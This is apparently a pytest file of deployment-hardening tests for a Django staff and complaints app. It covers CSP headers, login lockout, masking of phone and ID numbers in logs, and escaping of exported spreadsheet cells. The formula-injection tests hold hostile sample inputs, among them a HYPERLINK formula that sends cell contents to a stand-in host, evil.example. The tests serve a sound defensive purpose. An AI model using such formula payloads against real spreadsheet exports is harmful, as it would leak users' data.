"""Deployment hardening: `check --deploy` is clean with the documented production
environment, pages carry a Content Security Policy, logins are throttled, logs carry no
personal data."""

from __future__ import annotations

import logging
import os
import secrets
import subprocess
import sys
from pathlib import Path

import pytest
from django.conf import settings
from django.urls import reverse

from starservice.logging_filters import PersonalDataFilter, mask_personal_data
from tests.factories import PASSWORD

ROOT = Path(__file__).resolve().parents[2]

# The production environment README.md documents ("Production").
PRODUCTION_ENV = {
    "DJANGO_DEBUG": "false",
    "SECRET_KEY": secrets.token_urlsafe(60),
    "ALLOWED_HOSTS": "starservice.example.cn",
    "DATABASE_URL": "postgres://starservice@127.0.0.1:5432/starservice",
    "REDIS_URL": "redis://127.0.0.1:6379/0",
}


def test_check_deploy_prints_no_warnings():
    environment = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO", "SECRET"))}
    environment.update(PRODUCTION_ENV)
    result = subprocess.run(
        [sys.executable, "manage.py", "check", "--deploy", "--fail-level", "WARNING"],
        cwd=ROOT,
        env=environment,
        capture_output=True,
        text=True,
        timeout=120,
    )

    assert result.returncode == 0, result.stdout + result.stderr
    assert "System check identified no issues (0 silenced)." in result.stdout
    assert "WARNING" not in result.stdout + result.stderr


@pytest.mark.django_db
def test_pages_carry_a_strict_content_security_policy(client, org, hr):
    client.force_login(hr)

    response = client.get(reverse("home"))

    policy = dict(
        part.strip().split(" ", 1) for part in response["Content-Security-Policy"].split(";")
    )
    assert policy["default-src"] == "'self'"
    assert policy["script-src"].startswith("'self' 'nonce-")
    assert "unsafe-inline" not in policy["script-src"]
    assert "unsafe-eval" not in policy["script-src"]
    assert policy["frame-ancestors"] == "'none'"
    assert policy["object-src"] == "'none'"
    nonce = policy["script-src"].split("'nonce-")[1].rstrip("'")
    assert f'"inlineStyleNonce": "{nonce}"' in response.content.decode()


def test_templates_have_no_inline_scripts_or_handlers():
    """Inline scripts run only with the nonce; inline event handlers never run under the
    policy. JSON data blocks (json_script) are not scripts."""
    import re

    offenders = []
    handler = re.compile(r"\son[a-z]+\s*=", re.IGNORECASE)
    inline_script = re.compile(r"<script(?![^>]*\bsrc=)(?![^>]*application/json)[^>]*>", re.I)
    for path in sorted((ROOT / "templates").rglob("*.html")):
        text = path.read_text(encoding="utf-8")
        for pattern in (handler, inline_script):
            for match in pattern.finditer(text):
                if "CSP_NONCE" in match.group(0):
                    continue
                offenders.append(f"{path.relative_to(ROOT)}: {match.group(0).strip()}")
    assert [line for line in offenders if line not in KNOWN_INLINE] == []


# Inline handlers still waiting for their pages' owners to move them into a static file
# (static/starservice/actions.js handles data-action="print" and data-enter="ignore").
KNOWN_INLINE: set[str] = set()


# ---------------------------------------------------------------- login throttling


@pytest.fixture
def login_as(client):
    def attempt(username: str, password: str, address: str = "203.0.113.7"):
        return client.post(
            reverse("login"),
            {"username": username, "password": password},
            REMOTE_ADDR=address,
        )

    return attempt


@pytest.mark.django_db
def test_login_locks_after_repeated_failures_per_username_and_address(login_as, staff_a):
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert login_as("staff_a", "wrong").status_code == 200
    locked = login_as("staff_a", "wrong")

    assert locked.status_code == 429
    assert "登录失败次数过多" in locked.content.decode()
    # Even the right password is refused while locked, from that address…
    assert login_as("staff_a", PASSWORD).status_code == 429
    # …but the same person from elsewhere, and others from this address, may still log in.
    assert login_as("staff_a", PASSWORD, address="198.51.100.2").status_code == 302


@pytest.mark.django_db
def test_success_resets_the_failure_count(login_as, staff_a, client):
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        login_as("staff_a", "wrong")
    assert login_as("staff_a", PASSWORD).status_code == 302
    client.logout()

    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert login_as("staff_a", "wrong").status_code == 200
    assert login_as("staff_a", PASSWORD).status_code == 302


@pytest.mark.django_db
def test_test_client_login_still_works(client, staff_a):
    assert client.login(username="staff_a", password=PASSWORD)
    assert client.get(reverse("audit:mine")).status_code == 200


# ---------------------------------------------------------------- personal data in logs


@pytest.mark.parametrize(
    ("text", "masked"),
    [
        ("call 13812345678 now", "call 138****5678 now"),
        ("+86 13812345678", "138****5678"),
        ("身份证 110101199003071234 ok", "身份证 110101********1234 ok"),
        ("id 11010119900307123X", "id 110101********123X"),
        ("座机 021-62345678", "座机 021-********"),
        ("mail zhang.san@example.cn", "mail ***@***"),
        ("record 12345 of staff E00042", "record 12345 of staff E00042"),
        ("2026-03-02 10:00", "2026-03-02 10:00"),
    ],
)
def test_personal_data_is_masked(text, masked):
    assert mask_personal_data(text) == masked


def test_every_log_handler_masks_personal_data():
    for name, handler in settings.LOGGING["handlers"].items():
        assert "personal_data" in handler.get("filters", []), name


def test_log_records_and_tracebacks_are_masked(caplog):
    logger = logging.getLogger("starservice.trust")
    handler = logging.StreamHandler(stream := __import__("io").StringIO())
    handler.addFilter(PersonalDataFilter())
    logger.addHandler(handler)
    try:
        try:
            raise ValueError("duplicate key (phone)=(13912345678)")
        except ValueError:
            logger.exception("complainant %s wrote", "13800001111")
    finally:
        logger.removeHandler(handler)

    output = stream.getvalue()
    assert "13800001111" not in output and "13912345678" not in output
    assert "138****1111" in output and "139****5678" in output


# ---------------------------------------------------------------- formula injection


@pytest.mark.parametrize("text", ["=1+2", "+cmd", "-2+3", "@SUM(A1:A2)", '=HYPERLINK("x")'])
def test_exported_text_never_becomes_a_formula(text):
    from io import BytesIO

    from openpyxl import load_workbook

    from starservice.workbooks import SheetSpec, render_xlsx

    content = render_xlsx([SheetSpec("s", ["a", "b"], [[text, 5]])])

    sheet = load_workbook(BytesIO(content))["s"]
    cell = sheet["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + text
    assert sheet["B2"].value == 5  # numbers stay numbers


@pytest.mark.django_db
def test_staff_export_escapes_a_formula_typed_as_a_name(client, hr, staff_a):
    from io import BytesIO

    from openpyxl import load_workbook

    staff_a.name = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    staff_a.save()
    client.force_login(hr)

    response = client.get(reverse("staff:export"))

    sheet = load_workbook(BytesIO(b"".join(response.streaming_content))).active
    names = [cell.value for row in sheet.iter_rows() for cell in row if cell.value]
    assert "'" + staff_a.name in names
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_gunicorn_access_log_has_no_client_address_or_query_string():
    from starservice import gunicorn_conf

    log_format = gunicorn_conf.access_log_format
    for personal in ("%(h)s", "%(q)s", "%(r)s", "%({", "%(a)s", "%(f)s"):
        assert personal not in log_format
    assert "%(U)s" in log_format


# ---------------------------------------------------------------- public endpoints

# Every page a visitor without a login may use, and what stops it being hammered. A new
# public URL fails this test until someone decides how it is throttled.
PUBLIC_ENDPOINTS = {
    "login": "django-axes: lockout per username + address (tests above)",
    "set_language": "no state kept but a cookie; nothing to throttle",
    "complaints:rate": "complaints.throttle per device + address (tests/complaints)",
    "complaints:rate_thanks": "shows nothing back; the POST before it is throttled",
    "complaints:public_new": "complaints.throttle per device + address (tests/complaints)",
    "complaints:public_thanks": "shows nothing back; the POST before it is throttled",
}


def test_every_public_endpoint_has_a_throttling_decision():
    from tests.test_permissions import CASES, FORBIDDEN, LOGIN, NOT_FOUND

    public = {
        case.url_name
        for case in CASES
        if {case.expected["anonymous"], case.expected["public"]} - {LOGIN, FORBIDDEN, NOT_FOUND}
    }
    assert public == set(PUBLIC_ENDPOINTS)
